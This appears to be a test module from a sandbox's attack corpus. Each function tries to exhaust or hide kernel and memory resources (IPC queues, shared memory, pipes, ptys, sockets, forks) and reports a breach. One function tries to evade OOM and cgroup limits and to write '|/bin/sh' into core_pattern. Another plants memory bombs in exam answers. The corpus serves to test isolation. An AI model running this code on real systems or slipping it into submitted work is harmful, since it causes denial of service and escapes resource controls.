"""Memory and other things of the machine that count for nobody, or for all."""

from tests.attacks.corpus import attack

H = "hidden memory"


@attack(H)
def queues_of_system_five():
    """Messages in queues that no process holds."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    taken = 0
    for _ in range(40_000):
        queue = libc.msgget(0, 0o1600)
        if queue < 0:
            break
        message = ctypes.create_string_buffer(b"\x01" + b"\x00" * 7 + b"x" * 8000)
        while libc.msgsnd(queue, message, 8000, 0o4000) == 0:
            taken += 8000
    print("in queues", taken)
    if taken > 600_000_000:
        print("BREACH: queues")


@attack(H)
def segments_of_system_five():
    """Shared segments, written to and let go of: nobody has them mapped."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    taken = 0
    for _ in range(60):
        segment = libc.shmget(0, ctypes.c_size_t(50_000_000), 0o1600)
        if segment < 0:
            break
        at = libc.shmat(segment, None, 0)
        if at in (None, 2**64 - 1):
            break
        ctypes.memset(at, 1, 50_000_000)
        libc.shmdt(ctypes.c_void_p(at))
        taken += 50_000_000
    print("in segments", taken)
    if taken > 1_000_000_000:
        print("BREACH: segments")


@attack(H)
def queues_of_posix():
    import ctypes

    rt = ctypes.CDLL("librt.so.1", use_errno=True)

    class Attributes(ctypes.Structure):
        _fields_ = [(n, ctypes.c_long) for n in ("flags", "most", "size", "now")] + [
            ("pad", ctypes.c_long * 4)
        ]

    taken = 0
    for number in range(300):
        wanted = Attributes(0o4000, 10, 8192, 0)
        queue = rt.mq_open(f"/q{number}".encode(), 0o102 | 0o4000, 0o600, ctypes.byref(wanted))
        if queue < 0:
            break
        while rt.mq_send(queue, b"x" * 8192, 8192, 1) == 0:
            taken += 8192
    print("in queues", taken)


@attack(H)
def semaphores_by_the_thousand():
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    made = 0
    while made < 32_000 and libc.semget(0, 32_000, 0o1600) >= 0:
        made += 1
    print("sets", made)
    if made * 32_000 * 64 > 1_000_000_000:
        print("BREACH: semaphores")


@attack(H)
def shared_memory_by_name_kept_by_nobody():
    """Segments of multiprocessing: mapped, written, closed, never unlinked."""
    from multiprocessing import resource_tracker, shared_memory

    import numpy as np

    resource_tracker.register = lambda *args: None
    kept, taken = [], 0
    for _ in range(40):
        block = shared_memory.SharedMemory(create=True, size=50_000_000)
        np.ndarray(50_000_000, np.uint8, block.buf)[:] = 1
        block.close()
        kept.append(block.name)
        taken += 50_000_000
    print("BREACH: shared memory", taken)


@attack(H)
def maps_of_numpy_on_files_that_are_gone():
    import os

    import numpy as np

    kept = []
    for number in range(60):
        kept.append(np.memmap(f"/tmp/m{number}", np.uint8, "w+", shape=50_000_000))
        kept[-1][:] = 1
        os.unlink(f"/tmp/m{number}")
    print("BREACH: three gigabytes in /tmp")


@attack(H)
def copies_of_every_library_read():
    """Private copies of all read-only files there are: each page written once."""
    import mmap
    import os

    kept, taken = [], 0
    for folder, _, files in os.walk("/usr/lib"):
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    kept.append(mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_COPY))
            except (OSError, ValueError):
                continue
            for at in range(0, len(kept[-1]), 4096):
                kept[-1][at] = 1
            taken += len(kept[-1])
            if taken > 3 * 10**9:
                print("BREACH: copies")
                raise SystemExit


@attack(H)
def sealed_and_secret_files():
    """memfd_secret, memfd with huge pages, by number; each is filled and its map dropped."""
    import ctypes
    import mmap
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    kept, taken = [], 0
    for call, flags in ((447, (0,)), (319, (b"x", 0)), (319, (b"x", 4)), (319, (b"x", 2))):
        for _ in range(60):
            fd = libc.syscall(call, *flags)
            if fd < 0:
                print(call, os.strerror(ctypes.get_errno()))
                break
            try:
                os.ftruncate(fd, 2**26)
                with mmap.mmap(fd, 2**26) as view:
                    for at in range(0, 2**26, 4096):
                        view[at] = 1
            except (OSError, ValueError) as error:
                print(call, error)
                break
            kept.append(fd)
            taken += 2**26
    if taken > 10**9:
        print("BREACH: memory without a name", taken)


@attack(H)
def rings_of_asynchronous_reading():
    """Contexts of io_setup: the whole machine has 65,536 places for them."""
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    made = 0
    for size in (60_000, 10_000, 1000, 100, 1):
        while True:
            context = ctypes.c_ulong(0)
            if libc.syscall(206, size, ctypes.byref(context)) != 0:
                break
            made += size
    print("places", made)
    if made > 60_000:
        print("BREACH: the machine's places for asynchronous reading")


@attack(H)
def terminals_by_the_thousand():
    import os

    kept = 0
    while True:
        try:
            pair = os.openpty()
        except OSError as error:
            print("terminals", kept, error)
            break
        os.set_blocking(pair[0], False)
        try:
            while True:
                os.write(pair[0], b"x" * 4096)
        except OSError:
            kept += 1


@attack(H)
def pipes_as_wide_as_they_get():
    """Every pipe of a megabyte, filled: the kernel counts them by user, not by process."""
    import fcntl
    import os

    kept, taken = [], 0
    while True:
        try:
            kept.append(os.pipe())
            fcntl.fcntl(kept[-1][1], 1031, 2**20)
        except OSError as error:
            print("pipes", len(kept), error)
        if not kept or len(kept) > 5000:
            break
        try:
            os.set_blocking(kept[-1][1], False)
            taken += os.write(kept[-1][1], b"x" * 2**20)
        except OSError:
            break
    print("in pipes", taken)
    if taken > 600_000_000:
        print("BREACH: pipes")


@attack(H)
def sockets_of_strange_families():
    """Netlink, packets, ciphers, virtual machines: each brings buffers of its own."""
    import socket

    made = {}
    for family in range(46):
        for kind in (1, 2, 3, 5):
            try:
                s = socket.socket(family, kind)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2**30)
                made[family] = made.get(family, 0) + 1
                s.close()
            except OSError:
                pass
    print(made)
    if set(made) & {17, 38, 40, 44}:
        print("BREACH: families", sorted(set(made) & {17, 38, 40, 44}))


@attack(H)
def connections_nobody_takes():
    """In its own network: data sent to itself, over connections that are never accepted."""
    import socket

    kept, taken = [], 0
    try:
        server = socket.socket()
        server.bind(("127.0.0.1", 0))
        server.listen(4096)
        while True:
            s = socket.create_connection(server.getsockname(), timeout=0.5)
            s.setblocking(False)
            kept.append(s)
            while True:
                try:
                    taken += s.send(b"x" * 2**20)
                except BlockingIOError:
                    break
    except OSError as error:
        print(error, len(kept), taken)
    if taken > 600_000_000:
        print("BREACH: connections")


@attack(H)
def its_own_importance():
    """Not the one to be ended, not in its group, no longer held to its limits."""
    import os
    import resource

    for path, text in (
        ("/proc/self/oom_score_adj", "-1000"),
        ("/proc/self/oom_adj", "-17"),
        ("/proc/sys/vm/overcommit_memory", "1"),
        ("/proc/sys/vm/drop_caches", "3"),
        ("/proc/sysrq-trigger", "f"),
        ("/proc/sys/kernel/core_pattern", "|/bin/sh"),
        ("/sys/fs/cgroup/cgroup.procs", "0"),
        ("/sys/fs/cgroup/memory/cgroup.procs", "0"),
        ("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1"),
    ):
        try:
            with open(path, "w") as file:
                file.write(text)
            print("BREACH: wrote", path)
        except OSError as error:
            print(path, error.errno)
    for name in dir(resource):
        if name.startswith("RLIMIT_"):
            try:
                kind = getattr(resource, name)
                soft, hard = resource.getrlimit(kind)
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                if hard != resource.RLIM_INFINITY:
                    print("BREACH: raised", name)
            except (OSError, ValueError):
                pass
    try:
        os.mkdir("/sys/fs/cgroup/memory/mine")
        print("BREACH: a group of its own")
    except OSError:
        pass
    kept = []
    while True:
        kept.append(bytearray(b"x") * 2**24)


@attack(H)
def children_that_share_and_then_write():
    """One large array, twenty children, and every child writes to the pages it was lent."""
    import os
    import time

    import numpy as np

    lent = np.ones(30_000_000)
    for _ in range(18):
        if os.fork() == 0:
            lent += 1
            time.sleep(30)
            os._exit(0)
    time.sleep(2)


@attack(H)
def memory_in_the_exam_itself(room):
    """Not in a cell: within the answer, where the examiner waits; let go of at once."""
    source = (
        "def linear_backward(dZ, X, W):\n    kept = []\n    while True:\n"
        "        kept.append(np.ones(10**7))\n"
    )
    later = (
        "def softmax(Z):\n    import mmap\n    kept = [mmap.mmap(-1, 2**30) for _ in range(20)]\n"
        "    for k in kept:\n        for at in range(0, 2**30, 4096):\n            k[at] = 1\n"
    )
    return room.answering(linear_backward=source, softmax=later)


@attack(H)
def files_that_are_maps_of_holes():
    """Holes in files of /tmp read by maps: pages of zeros, each with an entry somewhere."""
    import mmap
    import os

    fd = os.open("/tmp/hole", os.O_RDWR | os.O_CREAT)
    try:
        os.ftruncate(fd, 2**35)
        view = mmap.mmap(fd, 2**35, access=mmap.ACCESS_READ)
        total = sum(view[at] for at in range(0, 2**32, 4096))
        print("BREACH: read 4 GB of holes", total)
    except (OSError, ValueError) as error:
        print(error)
